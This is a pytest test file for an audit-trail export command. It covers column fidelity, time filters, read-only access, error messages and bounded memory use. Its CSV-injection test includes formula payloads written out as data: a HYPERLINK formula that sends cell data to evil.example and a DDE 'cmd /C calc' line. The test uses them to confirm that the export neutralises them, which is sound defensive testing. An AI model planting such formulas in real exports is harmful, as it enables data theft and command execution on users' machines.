"""`apikey-bot audit export`: every event and every column, in chain order, as JSON lines or
CSV, filtered by time; read-only; in bounded memory however many events there are."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa

from storage.audit import bind_audit_key, record_events
from storage.db import make_engine, migrate, session_scope

NOW = datetime.now(UTC)
DETAILS = [
    {"plain": "ok"},
    {"quote": 'a "quoted", comma', "newline": "two\nlines", "unicode": "clé 🔑"},
    {"nested": {"list": [1, 2.5, None, True], "empty": {}}},
    {},
    {"ids": ["k1", "k2"], "count": 0, "flag": False},
]


# Each age gets its own action, so an export's rows tell which ages it selected.
AGE_ACTION = {40: "rotation.policy", 10: "key.status", 0: "drift.check"}


def _seed(engine) -> None:
    """Events 40, 10 and 0 days old, with details JSON must carry intact."""
    events = []
    for age in (40, 10, 0):
        for n, detail in enumerate(DETAILS):
            events.append(
                {
                    "team_id": "T0TEST",
                    "at": NOW - timedelta(days=age, minutes=n),
                    "actor": "U0ALICE",
                    "action": AGE_ACTION[age],
                    "target": None if n == 3 else f"key-{n}",
                    "target_key_id": "k1",
                    "source": "slash" if n % 2 else None,
                    "detail": detail,
                }
            )
    with session_scope(engine) as session:
        record_events(session, events)


def _export(database_url: str, cwd: Path, *args: str) -> subprocess.CompletedProcess:
    env = {"DATABASE_URL": database_url, "PATH": "/usr/bin:/bin"}
    return subprocess.run(
        [sys.executable, "-m", "bot", "audit", "export", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def _stored(engine) -> list[dict]:
    """The table as the database holds it: every column it has (read back, not from the
    model), in id order."""
    with engine.connect() as connection:
        columns = [c["name"] for c in sa.inspect(connection).get_columns("audit_events")]
        rows = connection.execute(sa.text("SELECT * FROM audit_events ORDER BY id")).mappings()
        stored = [dict(row) for row in rows]
    for row in stored:
        if isinstance(row["detail"], str):  # SQLite hands JSON back as text to raw SQL
            row["detail"] = json.loads(row["detail"])
        at = row["at"]
        if isinstance(at, str):
            at = datetime.fromisoformat(at)
        row["at"] = at.replace(tzinfo=UTC) if at.tzinfo is None else at
    assert list(stored[0]) == columns
    return stored


def _cell(text: str) -> str:
    """A CSV cell as it was before the export neutralised it: one leading quote taken off a
    cell that a spreadsheet would evaluate (or that began with a quote itself)."""
    return (
        text[1:] if text[:1] == "'" and text[1:2] in ("=", "+", "-", "@", "\t", "\r", "'") else text
    )


def _same_event(exported: dict, stored: dict, *, csv_text: bool = False) -> None:
    assert list(exported) == list(stored), "every column, in the table's order"
    for name, value in stored.items():
        got = exported[name]
        if name == "at":
            assert got.endswith("Z") and datetime.fromisoformat(got) == value
        elif name == "detail":
            assert (json.loads(got) if csv_text else got) == value
        elif isinstance(value, bytes | memoryview):  # a binary column (a MAC) travels in base64
            assert base64.b64decode(_cell(got) if csv_text else got) == bytes(value), name
        elif csv_text:
            assert _cell(got) == ("" if value is None else str(value)), name
        else:
            assert got == value, name


def test_jsonl_and_csv_carry_every_event_and_column_intact(engine, database_url, tmp_path):
    _seed(engine)
    stored = _stored(engine)
    assert len(stored) == 15

    jsonl = _export(database_url, tmp_path, "--since", "60d", "--output", "trail.jsonl")
    assert jsonl.returncode == 0, jsonl.stderr
    assert "exported 15 audit events" in jsonl.stderr
    lines = (tmp_path / "trail.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 15
    for line, row in zip(lines, stored, strict=True):
        _same_event(json.loads(line), row)

    as_csv = _export(database_url, tmp_path, "--since", "60d", "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    reader = csv.DictReader(io.StringIO(as_csv.stdout))
    assert reader.fieldnames == list(stored[0])
    records = list(reader)
    assert len(records) == 15
    for record, row in zip(records, stored, strict=True):
        _same_event(record, row, csv_text=True)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def test_csv_neutralises_cells_a_spreadsheet_would_evaluate(engine, database_url, tmp_path):
    """OWASP's CSV-injection guidance: a cell that begins with =, +, -, @, a tab or a carriage
    return is evaluated by spreadsheets; the export prefixes it with a single quote (and a cell
    that already began with one gets a second, so the mapping stays one-to-one). JSON lines
    carry every value exactly."""
    with session_scope(engine) as session:
        record_events(
            session,
            [
                {
                    "team_id": "T0TEST",
                    "at": NOW - timedelta(minutes=n),
                    "actor": text,
                    "action": "key.register",
                    "target": text,
                    "target_key_id": "k1",
                    "source": "slash",
                    "detail": {"label": text},
                }
                for n, text in enumerate(FORMULAS)
            ],
        )
    as_csv = _export(
        database_url, tmp_path, "--since", "1d", "--format", "csv", "--output", "t.csv"
    )
    assert as_csv.returncode == 0, as_csv.stderr
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as exported:  # as csv wants it
        records = list(csv.DictReader(exported))
    assert len(records) == len(FORMULAS), "a carriage return inside a cell stays in its cell"
    assert [r["target"] for r in records] == ["'" + text for text in FORMULAS]
    assert [r["actor"] for r in records] == ["'" + text for text in FORMULAS]
    for record in records:
        for name, cell in record.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
        assert json.loads(record["detail"])["label"] in FORMULAS  # the JSON column is JSON

    jsonl = _export(database_url, tmp_path, "--since", "1d")
    exact = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [e["target"] for e in exact] == FORMULAS
    assert [e["detail"]["label"] for e in exact] == FORMULAS


def test_since_and_until_select_by_time(engine, database_url, tmp_path):
    _seed(engine)
    recent = _export(database_url, tmp_path, "--since", "30d")
    actions = [json.loads(line)["action"] for line in recent.stdout.splitlines()]
    assert actions == [AGE_ACTION[10]] * 5 + [AGE_ACTION[0]] * 5

    day = (NOW - timedelta(days=20)).date().isoformat()
    older = _export(database_url, tmp_path, "--since", "2000-01-01", "--until", day)
    assert [json.loads(line)["action"] for line in older.stdout.splitlines()] == [
        AGE_ACTION[40]
    ] * 5

    moment = (NOW - timedelta(days=5)).astimezone(timezone(timedelta(hours=2))).isoformat()
    newest = _export(database_url, tmp_path, "--since", moment, "--format", "csv")
    assert [r["action"] for r in csv.DictReader(io.StringIO(newest.stdout))] == [AGE_ACTION[0]] * 5


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["--since", "last tuesday"], "--since"),
        (["--since", "2026-02-30"], "--since"),
        (["--since", "7d", "--until", "soon"], "--until"),
    ],
)
def test_a_bad_moment_gets_one_line_and_exit_code_2(args, option, tmp_path):
    result = _export(f"sqlite:///{tmp_path / 'apikey-bot.db'}", tmp_path, *args)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and result.stderr.startswith(f"apikey-bot: {option}:")
    assert "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_fresh_directory_has_nothing_to_export_and_gets_no_database(tmp_path):
    result = _export("sqlite:///apikey-bot.db", tmp_path, "--since", "7d")
    assert result.returncode == 0 and result.stdout == ""
    assert "nothing to export" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_database_never_migrated_is_left_as_it_is(tmp_path):
    path = tmp_path / "other.db"
    sqlite3.connect(path).close()  # an empty SQLite file: no tables at all
    result = _export(f"sqlite:///{path}", tmp_path)
    assert result.returncode == 0 and "no audit trail" in result.stderr
    with sqlite3.connect(path) as connection:
        assert connection.execute("SELECT name FROM sqlite_master").fetchall() == []


def test_export_only_reads(tmp_path):
    url = f"sqlite:///{tmp_path / 'apikey-bot.db'}"
    engine = make_engine(url)
    migrate(engine)
    bind_audit_key(engine, os.urandom(32))  # writing events needs the chain's key
    _seed(engine)
    engine.dispose()  # the last connection checkpoints the WAL into the file
    before = (tmp_path / "apikey-bot.db").read_bytes()
    result = _export(url, tmp_path, "--format", "csv")
    assert result.returncode == 0 and result.stdout.count("\n") == 16
    assert (tmp_path / "apikey-bot.db").read_bytes() == before


def test_an_unreachable_database_gets_one_line(tmp_path):
    result = _export("postgresql+psycopg://postgres:pw-not-real@127.0.0.1:1/apikey", tmp_path)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.startswith("apikey-bot: cannot read the audit trail")
    assert "pw-not-real" not in result.stderr and result.stderr.count("\n") == 1


def test_an_export_that_cannot_be_written_says_so(engine, database_url, tmp_path):
    _seed(engine)
    result = _export(database_url, tmp_path, "--output", str(tmp_path / "missing" / "x.jsonl"))
    assert result.returncode == 1 and "cannot write" in result.stderr
    assert "Traceback" not in result.stderr


# --- many events in bounded memory --------------------------------------------------------------

# bench/audit_export.py measures a million events (seconds and peak memory). The test needs
# fewer to show that memory does not grow with the trail: 250,000 events are 250 times the
# 1,000 of the baseline and ~85 MB of JSON lines, so an export that kept anything per event
# (a row object alone is far more than 160 bytes) would grow past the 40 MB allowed, and one
# holding the rows or the output would pass a quarter of the output's size. A million took
# 40-60 s of one worker; this takes a quarter of that.
EVENTS = 250_000
# The export's own peak resident memory: VmHWM belongs to this program's memory map (the
# high-water mark getrusage reports carries over from the parent across fork and exec).
_MEASURE = (
    "import re, sys\n"
    "from bot.__main__ import main\n"
    "code = main(['audit', 'export', '--output', sys.argv[1]])\n"
    "status = open('/proc/self/status').read()\n"
    "print(int(re.search(r'VmHWM:\\s+(\\d+) kB', status)[1]) * 1024, file=sys.stderr)\n"
    "sys.exit(code)\n"
)


def seed_bulk(path: Path, count: int) -> None:
    """``count`` events in one INSERT … SELECT (SQLite makes the rows itself: seconds, not the
    minutes the ORM would take). Their hashes are not a chain: export does not verify."""
    engine = make_engine(f"sqlite:///{path}")
    migrate(engine)
    engine.dispose()
    with sqlite3.connect(path) as connection:
        connection.execute(
            "INSERT INTO audit_events (team_id, at, actor, action, target, target_key_id,"
            " source, detail, prev_hash, hash)"
            " WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)"
            " SELECT 'T0TEST', strftime('%Y-%m-%d %H:%M:%f000', '2026-01-01',"
            "  '+' || (i % 86400) || ' seconds'), 'U0ALICE', 'key.status', 'key-' || i,"
            "  'k' || i, 'slash', json_object('i', i, 'note', 'checked'),"
            "  printf('%064x', i - 1), printf('%064x', i) FROM n",
            (count,),
        )


def _peak_rss_of_export(path: Path, out: Path) -> int:
    result = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(out)],
        env={"DATABASE_URL": f"sqlite:///{path}", "PATH": "/usr/bin:/bin"},
        cwd=path.parent,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    return int(result.stderr.strip().splitlines()[-1])


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads Linux's /proc")
@pytest.mark.timeout(300)
@pytest.mark.slow
def test_a_quarter_million_events_export_in_bounded_memory(tmp_path):
    small, big = tmp_path / "small.db", tmp_path / "big.db"
    seed_bulk(small, 1_000)
    seed_bulk(big, EVENTS)
    baseline = _peak_rss_of_export(small, tmp_path / "small.jsonl")
    peak = _peak_rss_of_export(big, tmp_path / "big.jsonl")
    out = tmp_path / "big.jsonl"
    size = out.stat().st_size
    # Holding every row (or the output) would take far more than the output's size; streaming
    # takes what a thousand events take, plus a little.
    assert peak < baseline + 40 * 2**20, (peak, baseline)
    assert peak - baseline < size / 4, (peak, baseline, size)
    with out.open("rb") as handle:
        first = json.loads(handle.readline())
        handle.seek(-1000, os.SEEK_END)
        last = json.loads(handle.read().splitlines()[-1])
        handle.seek(0)
        lines = sum(chunk.count(b"\n") for chunk in iter(lambda: handle.read(1 << 20), b""))
    assert (first["id"], last["id"], lines) == (1, EVENTS, EVENTS)
